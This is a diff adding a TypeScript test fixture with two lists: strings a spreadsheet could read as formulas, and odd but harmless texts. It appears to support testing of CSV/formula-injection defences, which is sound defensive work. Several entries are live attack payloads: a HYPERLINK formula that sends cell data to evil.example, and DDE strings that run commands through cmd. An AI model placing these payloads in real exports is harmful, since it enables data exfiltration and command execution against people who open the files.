@@ -1,0 +1,43 @@
+/** Texts that a spreadsheet might take for a formula, each in a way of its own. */
+export const formulas: readonly string[] = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example?x="&A1,"Invoice")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '"=1+1',
+  "'=1+1",
+  '" =1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '−1+1',
+  "=cmd|' /C calc'!A0",
+  '-2+3+cmd|" /C calc"!A0',
+];
+
+/** Texts that are odd, but formulas to nobody. */
+export const oddTexts: readonly string[] = [
+  'a, "quoted" and; separated',
+  'one line\nand another',
+  'tab\tinside',
+  ' blanks around ',
+  'مرحبا بالعالم',
+  'שלום \u202eevil\u202c',
+  '😀 👨‍👩‍👧 Zoë Ångström',
+  '<b>&amp;</b> ]]> <!--',
+  '_x0041_ and _x000D_',
+  'A-1 = B+2 @ C',
+  '0042',
+  '1e9',
+  '2026-11-24',
+  'TRUE',
+];
